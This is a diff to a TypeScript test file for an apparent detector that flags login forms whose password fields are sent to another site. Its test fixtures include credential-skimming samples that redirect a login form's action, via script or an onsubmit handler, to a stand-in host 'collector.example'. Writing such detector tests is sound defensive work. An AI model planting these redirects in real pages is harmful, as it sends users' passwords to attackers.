@@ -126,6 +126,16 @@ document.forms.login.setAttribute("action", "https://collector.example/p");</scr
     expect(found("p.html", html)).toEqual([["credential-form-offsite", 4]]);
   });
 
+  it("a form named by its class reaches that form only", () => {
+    const page = (sel: string) => `<form action="/in" class="login box"><input type="password"></form>
+<form class="search box"><input name="q"></form>
+<script>document.querySelector("${sel}").action = "https://www.google.com/search";</script>`;
+    expect(found("p.html", page(".search"))).toEqual([]);
+    expect(found("p.html", page("form.search"))).toEqual([]);
+    expect(found("p.html", page(".login"))).toEqual([["credential-form-offsite", 3]]);
+    expect(found("p.html", page(".box"))).toEqual([["credential-form-offsite", 3]]);
+  });
+
   it("a form's onsubmit handler that sets an action elsewhere", () => {
     const html = `<form action="/in" onsubmit="this.action='https://collector.example/p'"><input type="password"></form>`;
     expect(found("p.html", html)).toEqual([["credential-form-offsite", 1]]);
